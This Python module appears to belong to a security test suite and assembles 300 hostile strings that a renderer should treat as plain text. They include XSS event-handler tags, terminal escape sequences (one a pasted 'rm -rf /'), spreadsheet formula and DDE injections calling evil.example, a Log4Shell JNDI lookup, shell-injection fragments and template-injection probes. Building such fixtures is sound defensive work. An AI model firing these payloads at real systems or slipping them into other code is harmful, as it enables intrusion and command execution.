"""Three hundred texts that try to be more than text: for a browser, a terminal, a spreadsheet, a log, a template.

Every one that runs in a browser sets `window.owned`, asks for an address of `EVIL`, or opens a dialog.
"""

from itertools import product

from ..server.page.hostile import EVIL  # noqa: TID252 - the page's own texts are a part of these
from ..server.page.hostile import PAYLOADS as PAGE  # noqa: TID252

_RUN = "window.owned=1"
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onclick",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "ontoggle",
    "onbeforeprint",
    "onwheel",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "details open",
    "a href=# autofocus tabindex=0",
    "style",
)
_BROWSER = [f"<{tag} {handler}={_RUN}>" for tag, handler in product(_TAGS, _HANDLERS)]
_ESCAPES = [
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b[1A\x1b[2Kgrounded: true", "\x1b[999D\x1b[K", "\x1b[6n", "\x1b[c",
    "\x1b[>c", "\x1b[21t", "\x1b[?1049h",
    "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07", "\x1b]1337;File=name=eA==:AAAA\x07",
    "\x1b]4;1;rgb:00/00/00\x07", "\x1b]50;?\x07", "\x1bP$qm\x1b\\", "\x1b_Gf=24;AAAA\x1b\\", "\x1b^x\x1b\\",
    "\x1bX x\x1b\\", "\x1bc", "\x1b#8", "\x1b(0", "\x1b)B",
    "\x1b[5i", "\x1b[200~rm -rf /\n\x1b[201~", "\x1b[?25l", "\x1b[8m hidden \x1b[28m", "\x1b[3;J", "\x1b[1;1Hx",
    "\x9b31m", "\x9d0;owned\x9c", "\x90q\x9c", "\x85next",
    "over\rwritten", "a\b\b\bb", "bell\x07", "\x0e\x0f", "\x00nul", "\x7f\x7f\x7f", "\x0b\x0c", "tab\t\t\ttab",
    "\x1b", "\x1b[", "\x9b", "\x1b]", "\x18\x1a",
    "\u202egnp.exe\u202c", "\u2066\u2067rtl\u2069", "\u200e\u200f\u061c", "\u200b\u200b", "\ufeffbom",
    "\U000e0041\U000e0042 tags", "z\u0351\u036b\u0343\u036a" * 40,
    "\u2028line\u2029paragraph", "\ufff9a\ufffab\ufffb", "\ud800\udfff", "\ue000\uf8ff", "\ufdd0\uffff",
    "\u00ad\u00adsoft", "\u115f\u3164 fillers",
]  # fmt: skip
_FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=1+1", "==1+1",
    "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "x\r=1+1", "x\n=1+1", "x\r\n=1+1",
    "\",=1+1,\"", "\"\n=1+1", ",=1+1", ";=1+1", "'=1+1", "\"=1+1\"",
    "\ufeff=1+1", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\x0b=1+1", "\x00=1+1", "=\x001+1",
    "\u200b=1+1", "%0A=1+1", "|=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
_LOGS = [
    '\n{"level": "info", "event": "request", "status": 200}', '\r\n{"event": "admin logged in"}',
    '"}\n{"event": "owned', '", "level": "owned", "x": "', "\\n{}", "%0d%0aowned",
    "a\nb\nc", "\u2028{}", "\x85{}", "\x0b{}", "${jndi:ldap://evil.example/a}", "${env:HOME}",
    "{0.__class__.__mro__}", "{self}", "%(asctime)s", "%s%s%s%n", "$(touch owned)", "`touch owned`",
    "; touch owned", "| touch owned", "& touch owned", "\n\nevent: verdict\ndata: {}\n\n", "data: owned\n\n",
    ": comment\n\n", "\r\r", "id: 7\nretry: 1",
]  # fmt: skip
_MARKUP = [
    "[bold red]red[/bold red]", "[link=http://evil.example]x[/link]", "[/]", "[@click=app.quit]x[/]", "[blink]x",
    "\\[bold]", "[on red]", ":bomb:", "[not a tag", "[[]]", "[red", "[/red]",
    "[link=javascript:window.owned=1]x[/link]", "**x** _y_ `z`", f"[x](javascript:{_RUN})", f"![x]({EVIL}/m.png)",
    "<https://evil.example>", "| a | b |\n|---|---|", "# heading", "- list\n  - list",
    "<details><summary>x</summary></details>", "~~~\nx\n~~~", "$\\href{javascript:window.owned=1}{x}$",
    "{% raw %}{{ 7*7 }}{% endraw %}", "{{7*7}}", "<%=7*7%>", "#{7*7}", "*{7*7}", "@{7*7}", "{{=7*7}}",
]  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys((*PAGE, *_BROWSER, *_ESCAPES, *_FORMULAS, *_LOGS, *_MARKUP)))[:300]
"""All different; what is longer than three hundred is not needed."""
